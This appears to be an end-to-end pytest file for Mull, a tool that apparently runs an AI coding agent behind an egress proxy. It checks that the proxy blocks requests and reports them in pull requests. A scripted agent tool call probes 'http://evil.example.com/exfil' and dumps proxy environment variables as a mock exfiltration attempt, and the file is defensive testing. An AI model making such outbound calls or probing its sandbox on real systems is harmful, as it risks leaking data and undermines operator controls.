"""End to end: the agent's network goes through Mull's egress proxy, and the pull request reports what it refused.

Real `mull web` and `mull worker` (commands under bubblewrap where this machine can), the GitHub double and
the scripted model. The repository turns agent network on for PyPI only; the agent's command then tries a host
nobody allowed, over plain HTTP and HTTPS: both are refused with words the agent reads, and the pull request
lists them. A repository that tries to widen the operator's list gets one config comment naming the key.
"""

from __future__ import annotations

import json

import pytest
from doubles.e2e import MAINTAINER, open_pulls, pr_opened, settle, wait_for
from doubles.fixtures import REPO

pytestmark = pytest.mark.e2e

PROBE = ("python3 -c \"import urllib.request as u\ntry:\n    u.urlopen('http://evil.example.com/exfil', timeout=10)\n"
         "except Exception as e:\n    print('plain:', e, e.read().decode() if hasattr(e, 'read') else '')\"; "
         "python3 -c \"import urllib.request as u\ntry:\n    u.urlopen('https://evil.example.com/', timeout=10)\n"
         "except Exception as e:\n    print('tls:', e)\"; env | grep -i _proxy | sort")


def agent_turns() -> list[dict]:
    return [
        {"tool_calls": [{"name": "run_command", "arguments": {"command": PROBE}}]},
        {"tool_calls": [{"name": "edit_file", "arguments": {
            "path": "src/widgets.py", "old": "return 41", "new": "return 42"}}]},
        {"tool_calls": [{"name": "finish", "arguments": {"summary": "Made answer() return 42.", "not_done": []}}]},
    ]


def test_refused_requests_of_the_agent_are_listed_in_the_pull_request(mull, github_double, scripted_model) -> None:
    github_double.commit_files(REPO, "main", {".github/mull.yml": "network:\n  allow: [pypi.org]\n  agent: true\n"},
                               "Let the agent reach PyPI")
    scripted_model.script("EGRESS-1", agent_turns())
    issue = github_double.create_issue(REPO, "Answer should be 42", "EGRESS-1", author=MAINTAINER)
    github_double.label_issue(REPO, issue.number, "mull", MAINTAINER)
    wait_for(lambda: pr_opened(github_double, issue.number), what="status: PR opened", cluster=mull)

    body = github_double.issue(REPO, open_pulls(github_double)[0].number).body
    section = body.split("## Blocked network requests", 1)[1]
    assert "- `evil.example.com:80` × 1" in section and "- `evil.example.com:443` × 1" in section, body

    # The agent read why: the proxy's 403 names the host and who can allow it.
    seen = json.dumps([r["body"] for r in scripted_model.requests_for("EGRESS-1")])
    assert "plain: HTTP Error 403" in seen
    assert "refused a connection to evil.example.com:80: it is not in the operator's allow-list" in seen
    assert "tls: " in seen and "403" in seen.split("tls: ", 1)[1][:200]
    assert "HTTPS_PROXY=http://127.0.0.1:" in seen and "NO_PROXY=localhost,127.0.0.1,::1" in seen


def test_a_repository_widening_the_operators_list_gets_a_config_error(mull, github_double, scripted_model) -> None:
    github_double.commit_files(REPO, "main", {".github/mull.yml": "network:\n  allow: [pypi.org, evil.example.com]\n"},
                               "Try to widen the network")
    scripted_model.script("EGRESS-2", agent_turns())
    issue = github_double.create_issue(REPO, "Answer", "EGRESS-2", author=MAINTAINER)
    github_double.label_issue(REPO, issue.number, "mull", MAINTAINER)
    comment = wait_for(lambda: [c for c in github_double.comments(REPO, issue.number)
                                if c.user.login == github_double.bot_login], what="config error", cluster=mull)[0]
    assert "`network.allow`" in comment.body
    assert "'evil.example.com' is outside what the operator allows" in comment.body
    assert "MULL_SANDBOX_ALLOW_HOSTS" in comment.body
    settle(mull, github_double)
    assert scripted_model.requests == [] and open_pulls(github_double) == []
